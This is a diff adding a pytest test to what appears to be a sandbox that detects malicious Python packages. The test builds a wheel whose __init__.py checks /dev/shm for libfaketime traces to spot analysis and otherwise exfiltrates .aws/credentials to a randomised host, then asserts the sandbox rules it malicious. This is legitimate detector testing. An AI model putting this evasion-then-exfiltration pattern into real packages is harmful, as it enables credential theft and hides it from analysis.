@@ -118,3 +118,36 @@ def test_doctor_tells_lists_what_remains() -> None:
     # the host's own figures show through (a fresh CI machine's uptime, a small VM)
     assert remaining <= tells and tells - remaining <= {"uptime", "CPU count", "memory"}, out
     assert p.returncode == 1, out
+
+
+def test_a_payload_quiet_while_dev_shm_holds_libfaketime_files_is_caught(tmp_path: Path) -> None:
+    """Session 25 made libfaketime's shared files at setup, under fixed names
+    (``dt_ft_shm``, ``sem.dt_ft_sem``): every pass, the default one too, could see them
+    in ``/dev/shm``, and a payload that stays quiet when it does was clean. Now they are
+    made when the first pass that preloads libfaketime starts, under the run's secret
+    names that look like a desktop's (``pulse-shm-…``, ``sem.mp-…``)."""
+    import textwrap
+
+    from sandbox.models import Verdict
+    from tests.conftest import run_cli
+    from tests.fixtures.builders import Randomised, build_wheel, exfil_source
+
+    r = Randomised()
+    name = r.name("shmwary")
+    wary = textwrap.dedent(
+        """\
+        import os, re
+        def _quiet():
+            try:
+                names = os.listdir("/dev/shm")
+            except OSError:
+                return True
+            return any(re.search(r"faketime|dt_ft|ft_s", n) for n in names)
+        if not _quiet():
+        """
+    )
+    src = wary + textwrap.indent(exfil_source(".aws/credentials", r.address(), r.port()), "    ")
+    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
+    code, report = run_cli(tmp_path, str(whl))
+    assert report is not None
+    assert report.verdict is Verdict.MALICIOUS and code == 1, (report.verdict_reason, report.notes)
